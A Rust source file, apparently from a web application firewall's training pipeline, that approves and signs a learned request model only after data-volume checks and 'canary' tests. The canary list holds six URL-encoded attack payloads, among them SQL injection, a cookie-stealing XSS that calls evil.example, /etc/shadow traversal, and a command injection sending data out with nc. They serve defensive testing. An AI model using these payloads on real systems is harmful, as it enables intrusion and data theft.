//! Whether a candidate may be published. Publishing needs an [`Approved`], and only [`approve`] makes one.

use std::fmt;

use ed25519_dalek::SigningKey;
use waf_model::{
    artifact,
    client::ClientVector,
    model::{Model, calibration::Certificate},
    observation::{Observation, ValueKey},
    request::{BodyExtent, BodyView, Header, RequestView},
    rules::RuleMatches,
    values::{Limits, Values},
};

use crate::calibrate::Candidate;

/// Least requests to calibrate on.
const CALIBRATION_REQUESTS: u64 = 50;

/// Least clients to learn from, where there are clients.
const CLIENTS: u64 = 10;

/// What may be asked of a candidate.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Demands {
    /// Least requests learned from.
    pub requests: u64,
    /// Whether the data has clients.
    pub clients: Clients,
}

/// Whether the data tells clients apart.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Clients {
    /// Events of a gateway.
    Known,
    /// Labelled requests.
    Unknown,
}

/// A signed artifact that passed every gate.
#[derive(Debug)]
pub struct Approved {
    seq: u64,
    bytes: Vec<u8>,
}

/// Why a candidate is refused; the model in force stays.
#[derive(Debug, Clone, PartialEq)]
pub enum Refusal {
    /// Too few requests.
    Requests {
        /// Learned from.
        found: u64,
        /// Least.
        wanted: u64,
    },
    /// Too few clean, later requests.
    Calibration {
        /// Calibrated on.
        found: u64,
    },
    /// Too few clients.
    Clients {
        /// Learned from.
        found: u64,
    },
    /// A certificate promises nothing.
    Certificate(Certificate),
    /// Attacks look as harmless as the site's own requests.
    Canary {
        /// The attack.
        name: &'static str,
        /// Its distance.
        distance: f32,
        /// The median of clean requests.
        median: f32,
    },
    /// A gateway would refuse it.
    Artifact(String),
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Requests { found, wanted } => {
                write!(f, "{found} clean requests to learn from, {wanted} wanted; let more traffic come in")
            }
            Self::Calibration { found } => write!(
                f,
                "{found} clean, later requests to calibrate on, {CALIBRATION_REQUESTS} wanted; let more traffic come in"
            ),
            Self::Clients { found } => write!(
                f,
                "{found} clients to learn from, {CLIENTS} wanted: one client must not say what is normal"
            ),
            Self::Certificate(certificate) => {
                write!(f, "the request certificate promises nothing: {certificate:?}")
            }
            Self::Canary { name, distance, median } => write!(
                f,
                "an attack ({name}) looks harmless: distance {distance:.2}, clean requests {median:.2}; the training \
                 data may hold attacks, review what was learned"
            ),
            Self::Artifact(error) => write!(f, "a gateway would refuse the artifact: {error}"),
        }
    }
}

impl Approved {
    /// Sequence number of the model.
    pub fn seq(&self) -> u64 {
        self.seq
    }

    /// The signed artifact.
    pub fn bytes(&self) -> &[u8] {
        &self.bytes
    }

    /// An artifact that `train` approved earlier and wrote to a file: signed with this trainer's own key, which
    /// signs nothing that was refused.
    ///
    /// # Errors
    /// A gateway would refuse it, or another key signed it.
    pub fn from_file(bytes: Vec<u8>, key: &SigningKey) -> Result<Self, Refusal> {
        let model = artifact::decode(&bytes, &[key.verifying_key()])
            .map_err(|error| Refusal::Artifact(error.to_string()))?;
        Ok(Self { seq: model.seq(), bytes })
    }
}

/// Puts `candidate` through every gate and signs it.
///
/// # Errors
/// Every gate that refused it.
pub fn approve(candidate: &Candidate, demands: &Demands, key: &SigningKey) -> Result<Approved, Vec<Refusal>> {
    let model = &candidate.model;
    let provenance = model.provenance();
    let certificate = model.request_certificate();
    let mut refusals = Vec::new();
    if provenance.requests < demands.requests {
        refusals.push(Refusal::Requests { found: provenance.requests, wanted: demands.requests });
    }
    if certificate.n < CALIBRATION_REQUESTS {
        refusals.push(Refusal::Calibration { found: certificate.n });
    }
    if demands.clients == Clients::Known && provenance.clients < CLIENTS {
        refusals.push(Refusal::Clients { found: provenance.clients });
    }
    if certificate.n == 0 || !certificate.threshold.is_finite() {
        refusals.push(Refusal::Certificate(*certificate));
    }
    for (name, distance) in canaries(model) {
        if distance <= candidate.median {
            refusals.push(Refusal::Canary { name, distance, median: candidate.median });
        }
    }
    match sign(candidate, key) {
        Ok(approved) if refusals.is_empty() => Ok(approved),
        Ok(_) => Err(refusals),
        Err(refusal) => {
            refusals.push(refusal);
            Err(refusals)
        }
    }
}

/// Encodes, and reads back as a gateway would: signature, limits, golden pairs.
fn sign(candidate: &Candidate, key: &SigningKey) -> Result<Approved, Refusal> {
    let refused = |error: artifact::ArtifactError| Refusal::Artifact(error.to_string());
    let bytes = artifact::encode(&candidate.model, &candidate.golden, key).map_err(refused)?;
    artifact::decode(&bytes, &[key.verifying_key()]).map_err(refused)?;
    Ok(Approved { seq: candidate.model.seq(), bytes })
}

/// Distances of a few plain attacks on the endpoint that is asked for most.
pub fn canaries(model: &Model) -> Vec<(&'static str, f32)> {
    const ATTACKS: [(&str, &str); 6] = [
        (
            "SQL injection",
            "id=7%27%20OR%20%27a%27%3D%27a%27%20UNION%20SELECT%20name%2C%20pass%20FROM%20accounts--",
        ),
        (
            "cross-site scripting",
            "q=%3Cimg%20src%3Dn%20onerror%3D%22fetch%28%27//evil.example/%27%2Bdocument.cookie%29%22%3E",
        ),
        ("path traversal", "file=..%2F..%2F..%2F..%2F..%2Fetc%2Fshadow"),
        ("shell command", "host=127.0.0.1%3B%20cat%20/etc/hosts%20%7C%20nc%20evil.example%2099"),
        ("template injection", "name=%7B%7B7*7%7D%7D%24%7B%28self.__class__.mro%28%29%29%7D"),
        ("encoded twice", "q=%2527%2520or%25201%253d1%2520--%2520%253Cscript%253E"),
    ];
    let busiest = model
        .profiles()
        .endpoints()
        .filter(|(key, _)| key.starts_with("GET "))
        .max_by(|(_, a), (_, b)| a.weight.total_cmp(&b.weight));
    let path = busiest.and_then(|(key, _)| key.strip_prefix("GET ")).unwrap_or("/");
    // A template stands for its paths: any value of the right kind will do.
    let path: String = path
        .split('/')
        .skip(1)
        .flat_map(|segment| ["/", if segment.starts_with('{') { "1" } else { segment }])
        .collect();
    ATTACKS
        .iter()
        .map(|(name, query)| {
            let observation = observe(&path, query, model.value_key());
            (*name, model.score(&observation, &ClientVector::UNKNOWN).request_distance)
        })
        .collect()
}

fn observe(path: &str, query: &str, key: &ValueKey) -> Observation {
    let view = RequestView {
        method: "GET",
        path: path.as_bytes(),
        query: Some(query.as_bytes()),
        protocol: "HTTP/1.1",
        headers: &[Header { name: "host", value: b"localhost" }, Header { name: "accept", value: b"*/*" }],
        body: BodyView { bytes: b"", extent: BodyExtent::Complete },
        client_address: "",
    };
    Observation::of(&view, &Values::extract(&view, &Limits::default()), &RuleMatches::default(), key)
}
